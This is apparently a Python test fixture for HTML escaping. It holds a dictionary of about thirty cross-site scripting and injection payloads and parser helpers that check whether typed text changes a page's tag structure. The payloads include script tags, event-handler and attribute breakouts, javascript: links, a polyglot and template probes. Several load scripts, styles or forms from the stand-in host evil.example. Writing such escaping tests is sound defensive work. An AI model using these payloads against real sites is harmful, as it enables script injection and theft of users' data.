"""Texts that try to become something else on a page, and the shape of a page to hold them against."""

from __future__ import annotations

import re
from html.parser import HTMLParser

MARK = "Zq7"
"""Stands in every payload, so that it is found again wherever it is shown."""

XSS = {
    "script element": f"<script>alert('{MARK}')</script>",
    "script from elsewhere": f"<script src=//evil.example/{MARK}.js></script>",
    "broken out of an attribute": f"\"><script>alert('{MARK}')</script>",
    "broken out of a single-quoted attribute": f"'><img src=x onerror=alert('{MARK}')>",
    "handler in an attribute": f'" autofocus onfocus="alert({MARK})',
    "handler in a single-quoted attribute": f"' onmouseover='alert({MARK})",
    "image that fails": f"<img src=x onerror=alert({MARK})>",
    "svg that loads": f"<svg/onload=alert({MARK})>",
    "svg with an animation": f"<svg><animate onbegin=alert({MARK}) attributeName=x></svg>",
    "mathml link": f"<math><a xlink:href=javascript:alert({MARK})>x</a></math>",
    "javascript link": f"<a href='javascript:alert({MARK})'>x</a>",
    "javascript link, mixed case and a tab": f"<a href='jAva\tScRipt:alert({MARK})'>x</a>",
    "data link": f"<a href='data:text/html,{MARK}'>x</a>",
    "frame": f"<iframe srcdoc='<b>{MARK}</b>'></iframe>",
    "object": f"<object data=//evil.example/{MARK}></object>",
    "style": f"<style>*{{background:url(//evil.example/{MARK})}}</style>",
    "style attribute": f"<p style='background:url(//evil.example/{MARK})'>x</p>",
    "base": f"<base href=//evil.example/{MARK}/>",
    "meta refresh": f"<meta http-equiv=refresh content='0;url=//evil.example/{MARK}'>",
    "form that sends elsewhere": f"<form action=//evil.example/{MARK}><button>x</button></form>",
    "form field that clobbers": f"<input name=csrf_token id=runner value={MARK}>",
    "htmx request": f"<b hx-get='//evil.example/{MARK}' hx-trigger=load>x</b>",
    "htmx handler": f"<b hx-on:click='alert({MARK})' data-hx-on='x'>x</b>",
    "end of a comment": f"--><script>alert({MARK})</script><!--",
    "end of a title": f"</title><script>alert({MARK})</script>",
    "end of a text area": f"</textarea><script>alert({MARK})</script>",
    "end of a script": f"</script><script>alert({MARK})</script>",
    "unclosed tag": f"<img src=x alt={MARK} onerror=alert(1) x='",
    "template expression": "{{ 7*7 }}{% for x in config %}" + MARK + "{% endfor %}",
    "entities": f"&lt;script&gt;alert({MARK})&lt;/script&gt;&#60;b&#62;",
    "full-width brackets": f"＜script＞alert('{MARK}')＜/script＞",
    "polyglot": f"jaVasCript:/*-/*`/*'/*\"/**/(alert({MARK}))//</stYle/</titLe/</scRipt/--!>\\x3csVg/oNloAd=a()>",
    "format string": f"%(login)s {{0.__class__}} %s %n {MARK}",
}
"""Names of attacks -> what is typed."""

Shape = list[tuple[str, tuple[str, ...]]]


class _Shape(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: Shape = []
        self.comments: list[str] = []
        self.texts: list[str] = []
        self.values: list[tuple[str, str, str]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, tuple(sorted(name for name, _ in attrs))))
        self.values += [(tag, name, value or "") for name, value in attrs]

    def handle_comment(self, data: str) -> None:
        self.comments.append(data)

    def handle_data(self, data: str) -> None:
        self.texts.append(data)


def parsed(html: str) -> _Shape:
    """Return tags with the names of their attributes, comments, texts and the attributes' values."""
    reader = _Shape()
    reader.feed(html)
    reader.close()
    return reader


_VALUE = re.compile(r'="[^"]*"')
_TAG = re.compile(r"<[^>]*>")
_LED = re.compile(rf'\b(?:href|src|action|id|class)="[^"]*{MARK}')


def skeleton(html: str) -> list[str]:
    """Return every tag of a page as it stands, but for its attributes' values.

    Pages whose skeletons are one and the same have one shape: what was typed holds no `<` then, and no quote.
    """
    return _TAG.findall(_VALUE.sub("=", html))


def leads(html: str) -> bool:
    """Return whether what was typed stands where it would lead somewhere or name something, or in a comment."""
    return "<!--" in html or _LED.search(html) is not None
